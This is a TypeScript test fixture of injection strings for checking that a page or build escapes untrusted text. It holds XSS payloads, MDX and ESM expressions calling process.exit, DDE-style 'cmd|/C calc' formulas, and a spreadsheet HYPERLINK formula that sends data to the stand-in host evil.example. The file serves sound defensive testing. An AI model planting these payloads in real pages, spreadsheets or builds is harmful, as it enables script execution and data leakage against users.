/**
 * Text a snapshot, a manifest, an actions file or a report could carry that a careless page
 * would run: HTML, JSX, MDX expressions, script-closing sequences, `javascript:` URLs,
 * spreadsheet formulas, quotes and backticks. Every script here sets `window.__pwned` (or
 * opens a dialog), so a browser test sees any that ran; an MDX expression that ran at build
 * shows its result instead of its text, or ends the build.
 */
export interface HostileString {
  name: string;
  text: string;
}

export const HOSTILE_STRINGS: readonly HostileString[] = [
  { name: 'img onerror', text: `<img src=x onerror="window.__pwned='img';alert(1)">` },
  { name: 'script element', text: `<script>window.__pwned='script'</script>` },
  { name: 'closing script', text: `</script><script>window.__pwned='close'</script>` },
  { name: 'html comment', text: `<!--<script>window.__pwned='comment'</script>` },
  { name: 'jsx component', text: 'SMB <Component/>' },
  { name: 'jsx of the site', text: '<Figure metric="nps" />' },
  { name: 'mdx exit', text: '{process.exit(0)}' },
  { name: 'mdx expression', text: `{globalThis.__pwned='mdx'}` },
  { name: 'javascript url', text: `javascript:window.__pwned='url'` },
  { name: 'markdown link', text: `[click](javascript:window.__pwned='link')` },
  { name: 'csv formula', text: '=HYPERLINK("http://evil.example/?leak","click")' },
  { name: 'csv plus', text: '+1+cmd|/C calc!A0' },
  { name: 'csv minus', text: '-2+3' },
  { name: 'csv at', text: '@SUM(1+1)*cmd|/C calc!A0' },
  { name: 'quotes and backticks', text: `'"\`\${globalThis.__pwned='tpl'}\`` },
  { name: 'character reference', text: '&lt;b&gt;&#123;x&#125;' },
  { name: 'esm', text: 'export const pwned = process.exit(0)' },
  { name: 'frontmatter break', text: `x\n---\n{process.exit(0)}\n---` },
];

/** Every hostile string joined into one (for a field that holds a single text). */
export const ALL_HOSTILE = HOSTILE_STRINGS.map((h) => h.text).join(' ');
